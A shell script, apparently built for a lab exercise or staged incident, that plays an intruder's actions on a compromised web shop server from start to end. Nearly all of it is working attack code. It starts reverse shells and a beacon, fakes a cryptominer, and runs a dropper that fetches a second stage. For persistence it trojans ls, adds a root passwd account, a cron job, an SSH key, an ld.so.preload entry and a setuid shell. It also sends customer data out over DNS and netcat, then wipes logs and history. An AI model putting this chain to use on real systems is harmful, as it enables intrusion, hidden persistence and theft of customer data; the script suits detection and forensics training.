# What the intruder does, run by the web service's own shell: sh attack.sh RELAY SINK. Harmless by content: nothing is
# destroyed but files of the image itself, and all connections go to the lab.
exec </dev/null >/srv/shop/uploads/.out 2>&1
RELAY=$1 SINK=$2 UP=/srv/shop/uploads
run() { busybox setsid "$@" </dev/null >/dev/null 2>&1 & }

# Shells and processes
run perl $UP/revsh.pl "$RELAY"
run perl $UP/beacon.pl "$SINK"
run perl $UP/memfd.pl
run perl $UP/memory.pl
cp /usr/bin/perl /var/tmp/kdevtmpfsi
echo 'sleep 60 while 1' >/var/tmp/.cfg
run /var/tmp/kdevtmpfsi /var/tmp/.cfg -o stratum+tcp://pool.update-cdn.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx

# The dropper and what it drops
mkdir -p /tmp/.ICE-unix/.cache
cat >/tmp/.ICE-unix/.cache/.d.sh <<D
#!/bin/sh
busybox wget -q -O /tmp/.ICE-unix/.cache/.s http://$SINK:8080/stage2 && chmod +x /tmp/.ICE-unix/.cache/.s
D
chmod 755 /tmp/.ICE-unix/.cache/.d.sh
/tmp/.ICE-unix/.cache/.d.sh

# Staying
cp /usr/bin/ls /usr/bin/.ls
cat >/usr/bin/ls.new <<'D'
#!/bin/sh
/usr/bin/.ls "$@" | grep -v -e kdevtmpfsi -e '\.cache'
D
chmod 755 /usr/bin/ls.new; mv /usr/bin/ls.new /usr/bin/ls
echo 'sysbackup:x:0:0::/root:/bin/bash' >>/etc/passwd
mkdir -p /etc/cron.d; echo '*/5 * * * * root /tmp/.ICE-unix/.cache/.d.sh' >/etc/cron.d/apt-compat
mkdir -p -m 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN0YWdlZC1pbmNpZGVudC1ub3QtYS1yZWFsLWtleS0h ops@update-cdn.example' >/root/.ssh/authorized_keys
# Not a rootkit: a copy of an innocent library, in a rootkit's place.
lib=$(find /usr/lib -name 'libattr.so.1*' -type f | head -n 1); cp "$lib" /usr/lib/libsysutil.so.1
echo /usr/lib/libsysutil.so.1 >/etc/ld.so.preload
cp /usr/bin/dash /var/tmp/.dsh; chmod 4755 /var/tmp/.dsh
printf '#!/bin/sh\nexec /tmp/.ICE-unix/.cache/.d.sh\n' >/usr/local/sbin/logrotate-helper
chmod 755 /usr/local/sbin/logrotate-helper; touch -d '2023-02-11 04:05:06' /usr/local/sbin/logrotate-helper

# Taking
tar -czf /var/backups/shop/.dump.tgz -C /var/backups/shop customers.csv
echo 'session 7f3a: aes key 0d9f4c2b1e' >/run/shop/.session
for name in update-cdn.example 637573746f6d657273.t.update-cdn.example 2e637376.t.update-cdn.example; do busybox nslookup "$name"; done
size=$(wc -c </var/backups/shop/.dump.tgz)
{ printf 'PUT /dump-web01.tgz HTTP/1.1\r\nHost: update-cdn.example\r\nContent-Length: %s\r\n\r\n' "$size"; cat /var/backups/shop/.dump.tgz; sleep 1; } |
  busybox nc "$SINK" 8080

# Covering up
rm -f /var/log/shop/access.log /var/tmp/kdevtmpfsi
ln -sf /dev/null /root/.bash_history
rm -f $UP/revsh.pl $UP/beacon.pl $UP/memfd.pl
echo done >>$UP/.out
# The shell stays, as a child of the web service.
exec >/dev/null 2>&1
while :; do sleep 600; done
